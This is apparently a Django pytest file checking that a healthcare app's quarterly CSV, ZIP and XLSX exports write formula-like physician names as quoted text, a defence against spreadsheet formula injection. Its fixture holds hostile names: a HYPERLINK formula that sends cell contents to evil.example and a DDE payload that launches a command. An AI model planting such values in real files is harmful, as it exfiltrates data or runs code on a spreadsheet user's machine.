"""The quarterly tables' CSV and XLSX cannot attack their reader: a physician name a CML
imported as a formula is written with a leading quote, as text (``panelcare.exports``)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from web.regions.testing import import_roster_with_names
from web.tables.kinds import DatasetKind
from web.tables.models import Dataset
from web.tables.store import read_dataset

pytestmark = pytest.mark.django_db

NAMES = [
    '=HYPERLINK("http://evil.example/"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "-Dr Minus",
]


@pytest.fixture
def hostile(client, region, drmg) -> dict[str, str]:
    """The roster imported through the web by the DRMG with hostile names:
    {physician_id: name as given}."""
    client.force_login(drmg)
    ids = import_roster_with_names(client, region, NAMES)
    return dict(zip(ids, NAMES, strict=True))


def quoted(hostile: dict[str, str]) -> dict[str, str]:
    return {code: "'" + name for code, name in hostile.items()}


def test_it_writes_a_formula_as_quoted_text_in_the_quarterly_csv(client, hostile):
    response = client.get(
        reverse("attribution:quarterly"), {"format": "csv", "table": "physicians"}
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = {row["physician_id"]: row["name"] for row in rows}
    assert {code: names[code] for code in hostile} == quoted(hostile)
    assert all(row["name"][0] != "'" for row in rows if row["physician_id"] not in hostile)


def test_it_writes_a_formula_as_quoted_text_in_the_quarterly_zip(client, hostile):
    response = client.get(reverse("attribution:quarterly"), {"format": "csv"})
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    text = archive.read("physicians.csv").decode("utf-8-sig")
    names = {row["physician_id"]: row["name"] for row in csv.DictReader(io.StringIO(text))}
    assert {code: names[code] for code in hostile} == quoted(hostile)


def test_it_writes_a_formula_as_a_quoted_string_cell_in_the_quarterly_xlsx(client, hostile):
    response = client.get(reverse("attribution:quarterly"), {"format": "xlsx"})
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    sheet = book[book.sheetnames[0]]  # the registrations per physician
    rows = list(sheet.iter_rows(min_row=2))
    names = {row[2].value: row[3] for row in rows}
    assert {code: names[code].value for code in hostile} == quoted(hostile)
    assert {names[code].data_type for code in hostile} == {"s"}
    # The numbers stay numbers.
    assert {row[4].data_type for row in rows} == {"n"}


def test_it_keeps_the_names_as_given_in_the_stored_roster(region, hostile):
    stored = read_dataset(Dataset.current(region, DatasetKind.PHYSICIANS)).to_pylist()
    assert {
        row["physician_id"]: row["name"] for row in stored if row["physician_id"] in hostile
    } == (hostile)
